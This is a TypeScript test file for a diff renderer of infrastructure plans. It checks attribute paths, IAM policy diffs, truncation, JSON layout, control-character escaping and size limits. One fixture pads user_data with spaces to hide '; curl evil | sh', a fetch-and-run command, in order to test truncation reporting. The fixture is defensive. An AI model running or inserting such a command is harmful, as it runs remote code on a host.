import { describe, expect, it } from 'vitest';
import { change, plan, policy, read } from '../../test/plan.ts';
import { diffLimits } from '../index.ts';

const attributesOf = (written: Parameters<typeof change>[0]) =>
  read(plan([change(written)])).diff.resources[0]?.attributes ?? [];

describe('the diff of a resource', () => {
  it('shows what changes by its path, and what is not known yet', () => {
    const found = attributesOf({
      type: 'a',
      before: { tags: { a: '1', b: '2' }, list: [1], same: 'x', id: 'old' },
      after: { tags: { a: '1', b: '3' }, list: [1, 2], same: 'x' },
      unknown: { id: true },
      change: { replace_paths: [['tags', 'b']] },
    });
    expect(found.map(({ path, forcesReplace }) => [path, forcesReplace])).toEqual([
      ...[
        ['tags.b', true],
        ['list.1', false],
        ['id', false],
      ],
    ]);
    expect(found[2]?.after).toEqual({ kind: 'unknown' });
  });

  it('compares a policy line by line, though it is one line of JSON', () => {
    const allow = (Action: string) => policy({ Effect: 'Allow', Action, Resource: '*' });
    const [first] = attributesOf({
      ...{ type: 'aws_iam_policy', before: { policy: allow('s3:GetObject') } },
      after: { policy: allow('s3:PutObject') },
    });
    const changed = first?.lines?.filter(({ sign }) => sign === '-' || sign === '+');
    expect(changed?.map(({ sign, text }) => `${sign}${text.trim()}`)).toEqual([
      '-"Action": "s3:GetObject",',
      '+"Action": "s3:PutObject",',
    ]);
  });

  it('keeps lines around a change only, and says how many it leaves out', () => {
    const text = (last: string) => [...Array.from({ length: 40 }, (_, n) => `line ${n}`), last];
    const [first] = attributesOf({
      ...{ type: 'a', before: { x: text('a').join('\n') } },
      after: { x: text('b').join('\n') },
    });
    expect(first?.lines?.[0]).toEqual({ sign: '…', text: '37' });
    expect(first?.lines).toHaveLength(6);
  });

  it('says how much it cuts off a line, and how many lines are over', () => {
    const [first] = attributesOf({
      ...{ type: 'aws_instance', before: { user_data: 'a\nb' } },
      after: { user_data: `a\nb${' '.repeat(600)}; curl evil | sh` },
    });
    const added = first?.lines?.find(({ sign }) => sign === '+');
    expect(added).toMatchObject({ cut: 1 + 600 + 16 - diffLimits.line });
    const many = Array.from({ length: 500 }, (_, n) => `line ${n}`).join('\n');
    const [second] = attributesOf({ type: 'a', after: { x: many } });
    expect(second?.lines?.at(-1)).toEqual({ sign: '⋮', text: String(500 - diffLimits.lines) });
  });

  it.each([
    [
      'a large number',
      '{"id":9007199254740993}',
      '{"id":9007199254740992}',
      '  "id": 9007199254740992',
    ],
    ['a name that stands twice', '{"a":2,"b":1}', '{"a":1,"a":2,"b":1}', '  "a": 1,'],
    ['spaces alone', '{"a":1,\n"b":1}', '{"a":1,\n"b": 1}', '"b": 1}'],
    ['line endings alone', 'a\nb', 'a\r\nb', 'a\\u{d}'],
  ])('shows what changes in %s', (_, before, after, added) => {
    const [first] = attributesOf({ type: 'a', before: { x: before }, after: { x: after } });
    const plus = (first?.lines ?? []).filter(({ sign }) => sign === '+').map(({ text }) => text);
    expect(plus).toEqual([added]);
  });

  it('lays JSON out as it stands, empty things and escapes as well', () => {
    const [first] = attributesOf({
      type: 'a',
      after: { x: '{"a":[],"b":{ },"c":["\\u003c",1.0]}' },
    });
    expect(first?.lines?.map(({ text }) => text)).toEqual([
      ...['{', '  "a": [],', '  "b": {},', '  "c": [', '    "<",', '    1.0', '  ]', '}'],
    ]);
  });

  it('shows no character that turns the reading around', () => {
    const [first] = attributesOf({ type: 'a', after: { x: 'a\u202eb\u0007' } });
    expect(first?.after).toMatchObject({ text: '"a\\u{202e}b\\u0007"' });
  });

  it('stays within its limits, and counts what it leaves out', () => {
    const many = Object.fromEntries(Array.from({ length: 900 }, (_, n) => [`a${n}`, n]));
    const [first] = read(plan([change({ type: 'a', after: many })])).diff.resources;
    expect(first?.attributes).toHaveLength(diffLimits.attributes);
    expect(first?.leftOut).toBe(900 - diffLimits.attributes);
    const [long] = attributesOf({ type: 'a', after: { x: 'y'.repeat(5000) } });
    expect(long?.after).toMatchObject({ cut: 5002 - diffLimits.text });
  });
});
